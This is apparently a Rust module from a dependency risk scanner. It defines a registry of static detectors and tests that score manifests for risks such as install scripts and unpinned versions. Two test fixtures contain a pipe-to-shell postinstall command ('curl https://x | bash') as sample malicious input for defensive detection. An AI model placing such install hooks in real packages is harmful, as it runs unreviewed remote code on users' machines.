//! Static risk heuristics.
//!
//! The registry is data, not branching: an ordered list of
//! `{name, enabled, run}` records driven by configuration. Detectors are
//! pure functions of `(dependency, manifest text)` and share no state, so
//! execution order cannot change the resulting signal set.

use std::collections::BTreeMap;

use anyhow::Result;

use crate::config::ConfigError;
use crate::models::{risk_score, Dependency, Ecosystem, ScoredDependency, Signal};

mod detectors;

/// What a detector is evaluated against.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Scope {
    /// Each parsed dependency record.
    Dependency,
    /// The manifest as a whole, via a synthetic record named by its path.
    Manifest,
    /// Both of the above.
    Both,
}

type DetectorFn = fn(&Dependency, &str) -> Result<Vec<Signal>>;

pub struct Detector {
    pub name: &'static str,
    pub enabled: bool,
    scope: Scope,
    run: DetectorFn,
}

fn default_detectors() -> Vec<Detector> {
    let table: [(&'static str, Scope, DetectorFn); 7] = [
        ("postinstall_script", Scope::Manifest, detectors::postinstall_script),
        ("obfuscated_content", Scope::Manifest, detectors::obfuscated_content),
        ("git_dependency", Scope::Dependency, detectors::git_dependency),
        ("unpinned_version", Scope::Dependency, detectors::unpinned_version),
        ("container_risk", Scope::Both, detectors::container_risk),
        ("native_module", Scope::Manifest, detectors::native_module),
        ("unpinned_ci_action", Scope::Dependency, detectors::unpinned_ci_action),
    ];
    table
        .into_iter()
        .map(|(name, scope, run)| Detector {
            name,
            enabled: true,
            scope,
            run,
        })
        .collect()
}

/// Build the detector registry, applying configured toggles.
///
/// A toggle naming an unknown detector is a configuration error and fatal
/// before any scanning begins.
pub fn build_registry(toggles: &BTreeMap<String, bool>) -> Result<Vec<Detector>, ConfigError> {
    let mut registry = default_detectors();
    for (name, enabled) in toggles {
        match registry.iter_mut().find(|d| d.name == name) {
            Some(detector) => detector.enabled = *enabled,
            None => return Err(ConfigError::UnknownDetector(name.clone())),
        }
    }
    Ok(registry)
}

/// Run every enabled detector over one manifest's dependencies and text.
///
/// Manifest-level findings attach to a synthetic record named by the
/// manifest path, appended after the real records.
pub fn evaluate_manifest(
    ecosystem: Ecosystem,
    rel_path: &str,
    text: &str,
    deps: Vec<Dependency>,
    registry: &[Detector],
) -> Vec<ScoredDependency> {
    let mut scored = Vec::with_capacity(deps.len());

    for dep in deps {
        let mut signals = Vec::new();
        for detector in registry {
            if !detector.enabled || detector.scope == Scope::Manifest {
                continue;
            }
            match (detector.run)(&dep, text) {
                Ok(found) => signals.extend(found),
                Err(err) => log::warn!("detector {} failed on {}: {}", detector.name, rel_path, err),
            }
        }
        let risk_score = risk_score(&signals);
        scored.push(ScoredDependency {
            dep,
            signals,
            risk_score,
        });
    }

    let mut manifest_dep = Dependency::new(ecosystem, rel_path, rel_path, "");
    manifest_dep.manifest_scope = true;

    let mut manifest_signals = Vec::new();
    for detector in registry {
        if !detector.enabled || detector.scope == Scope::Dependency {
            continue;
        }
        match (detector.run)(&manifest_dep, text) {
            Ok(found) => manifest_signals.extend(found),
            Err(err) => log::warn!("detector {} failed on {}: {}", detector.name, rel_path, err),
        }
    }
    if !manifest_signals.is_empty() {
        manifest_dep.script_section = manifest_signals
            .iter()
            .any(|s| s.signal_type == "postinstall_script" || s.signal_type == "obfuscated_content");
        let risk_score = risk_score(&manifest_signals);
        scored.push(ScoredDependency {
            dep: manifest_dep,
            signals: manifest_signals,
            risk_score,
        });
    }

    scored
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::{Severity, SourceKind, VersionKind};
    use crate::normalizer;

    fn registry() -> Vec<Detector> {
        build_registry(&BTreeMap::new()).unwrap()
    }

    fn dep(ecosystem: Ecosystem, spec: &str, dev: bool) -> Dependency {
        let mut dep = Dependency::new(ecosystem, "manifest", "pkg", spec);
        dep.dev_dependency = dev;
        normalizer::normalize(&mut dep);
        dep
    }

    #[test]
    fn test_unknown_toggle_is_a_configuration_error() {
        let mut toggles = BTreeMap::new();
        toggles.insert("no_such_detector".to_string(), false);
        assert!(build_registry(&toggles).is_err());
    }

    #[test]
    fn test_toggle_disables_detector() {
        let mut toggles = BTreeMap::new();
        toggles.insert("unpinned_version".to_string(), false);
        let registry = build_registry(&toggles).unwrap();

        let deps = vec![dep(Ecosystem::Python, "*", false)];
        let scored = evaluate_manifest(Ecosystem::Python, "requirements.txt", "", deps, &registry);
        assert!(scored[0].signals.is_empty());
        assert_eq!(scored[0].risk_score, 0.0);
    }

    #[test]
    fn test_wildcard_production_dependency_scores_high() {
        let deps = vec![dep(Ecosystem::Python, "*", false)];
        let scored =
            evaluate_manifest(Ecosystem::Python, "requirements.txt", "requests\n", deps, &registry());
        assert_eq!(scored.len(), 1);
        let signals = &scored[0].signals;
        assert_eq!(signals.len(), 1);
        assert_eq!(signals[0].signal_type, "unpinned_version");
        assert_eq!(signals[0].severity, Severity::High);
        assert!((scored[0].risk_score - 0.8).abs() < 1e-9);
    }

    #[test]
    fn test_caret_range_is_not_unpinned() {
        let deps = vec![dep(Ecosystem::Npm, "^1.2.3", false)];
        let scored = evaluate_manifest(Ecosystem::Npm, "package.json", "{}", deps, &registry());
        assert!(scored[0]
            .signals
            .iter()
            .all(|s| s.signal_type != "unpinned_version"));
    }

    #[test]
    fn test_dev_wildcard_downgrades_to_medium() {
        let deps = vec![dep(Ecosystem::Npm, "*", true)];
        let scored = evaluate_manifest(Ecosystem::Npm, "package.json", "{}", deps, &registry());
        assert_eq!(scored[0].signals[0].severity, Severity::Medium);
    }

    #[test]
    fn test_git_dependency_signal() {
        let mut d = Dependency::new(Ecosystem::Rust, "Cargo.toml", "patched", "abc1234");
        d.source = SourceKind::Git;
        d.resolved_url = Some("https://github.com/corp/patched.git".to_string());
        normalizer::normalize(&mut d);
        assert_eq!(d.version_kind, VersionKind::GitRef);

        let scored = evaluate_manifest(Ecosystem::Rust, "Cargo.toml", "", vec![d], &registry());
        let signals = &scored[0].signals;
        assert_eq!(signals.len(), 1);
        assert_eq!(signals[0].signal_type, "git_dependency");
        assert_eq!(signals[0].severity, Severity::Medium);
    }

    #[test]
    fn test_postinstall_pipe_to_shell_is_high() {
        let text = r#"{
  "name": "evil",
  "scripts": {
    "postinstall": "curl https://x | bash"
  }
}"#;
        let scored = evaluate_manifest(Ecosystem::Npm, "package.json", text, Vec::new(), &registry());
        assert_eq!(scored.len(), 1);
        assert!(scored[0].dep.manifest_scope);
        assert!(scored[0].dep.script_section);
        let post: Vec<_> = scored[0]
            .signals
            .iter()
            .filter(|s| s.signal_type == "postinstall_script")
            .collect();
        assert_eq!(post.len(), 1);
        assert_eq!(post[0].severity, Severity::High);
    }

    #[test]
    fn test_signal_set_is_order_independent() {
        let text = r#"{"scripts": {"postinstall": "curl https://x | bash"}}"#;
        let deps = vec![dep(Ecosystem::Npm, "*", false)];

        let forward = registry();
        let mut reversed = registry();
        reversed.reverse();

        let collect = |registry: &[Detector]| {
            let scored =
                evaluate_manifest(Ecosystem::Npm, "package.json", text, deps.clone(), registry);
            let mut types: Vec<String> = scored
                .iter()
                .flat_map(|s| s.signals.iter().map(|sig| sig.signal_type.clone()))
                .collect();
            types.sort();
            let scores: Vec<f64> = scored.iter().map(|s| s.risk_score).collect();
            (types, scores)
        };

        assert_eq!(collect(&forward), collect(&reversed));
    }
}
